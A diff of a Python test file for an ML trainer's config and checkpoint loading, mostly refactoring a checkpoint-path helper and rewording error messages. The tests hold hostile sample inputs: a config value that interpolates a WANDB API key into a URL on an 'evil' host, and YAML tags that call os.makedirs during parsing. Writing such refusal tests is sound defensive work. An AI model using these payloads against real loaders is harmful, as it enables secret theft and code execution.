@@ -13,7 +13,7 @@ from tests.toys.hostile import hostile_files
 from trainer import evaluate, export, generate
 from trainer.session import report_html
 from trainer.storage import checkpoints
-from trainer.storage.checkpoints import CheckpointError, path_of
+from trainer.storage.checkpoints import Checkpoint, CheckpointError
 from trainer.storage.run_folder import FolderError, RunFolder
 
 ONLY = "Only classes that conf/ names are instantiated"
@@ -83,9 +83,9 @@ FOLDERS = {
         "conf/base has hf,",
     ),
     "an unknown choice": ({"identity__choices__adapter": "evil"}, "conf/adapter has adalora,"),
-    "choices of another kind": ({"identity__choices": "evil"}, "is not what a run writes"),
-    "no identity": ({"identity": None}, "is not what a run writes"),
-    "a config of another kind": ({"config": ["evil"]}, "is not what a run writes"),
+    "choices of another kind": ({"identity__choices": "evil"}, "is not a run's record"),
+    "no identity": ({"identity": None}, "is not a run's record"),
+    "a config of another kind": ({"config": ["evil"]}, "is not a run's record"),
     "an interpolated secret": (
         {"config__task__path": "https://evil/${oc.env:WANDB_API_KEY}"},
         VARIABLE,
@@ -158,8 +158,8 @@ def test_a_strangers_run_folder_makes_nothing(folder, canary, capsys, case):
     [
         ("!!python/object/apply:os.makedirs [canary]\n", "could not determine a constructor"),
         ("a: !!python/name:os.makedirs ''\n", "could not determine a constructor"),
-        ("- 1\n", "is not what a run writes"),
-        ("id: x\n", "is not what a run writes"),
+        ("- 1\n", "is not a run's record"),
+        ("id: x\n", "is not a run's record"),
         ("a: [\n", "cannot be read"),
         ("a: &a [*a]\n", "contains itself"),
         ("- " * 5000 + "x", "nested more than 64 levels"),
@@ -180,20 +180,21 @@ def test_a_run_yaml_that_is_none(canary, capsys, text, said):
 
 @pytest.mark.parametrize("layout", ["zip", "legacy", "bare", "nothing", "climbing"])
 def test_a_checkpoint_with_code_is_refused(tmp_path, canary, layout):
-    path = path_of(tmp_path, 1)
+    checkpoint = Checkpoint.at(tmp_path, 1)
+    path = checkpoint.path
     path.write_bytes(dict(hostile_files(canary))[layout])
     manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
     path.with_suffix(".json").write_text(json.dumps(manifest))
-    assert checkpoints.newest(tmp_path) == path  # it is as it was written
+    assert checkpoints.newest(tmp_path) == checkpoint  # it is as it was written
     with pytest.raises(
         CheckpointError, match="cannot be used: it is no checkpoint of tensors and plain data"
     ):
-        checkpoints.load(path)
+        checkpoints.load(checkpoint)
 
 
 def test_a_strangers_checkpoint_in_a_good_folder(folder, canary, capsys):
     place = folder()
-    path = path_of(place / "checkpoints", 1)
+    path = Checkpoint.at(place / "checkpoints", 1).path
     path.write_bytes(dict(hostile_files(canary))["zip"])
     manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
     path.with_suffix(".json").write_text(json.dumps(manifest))
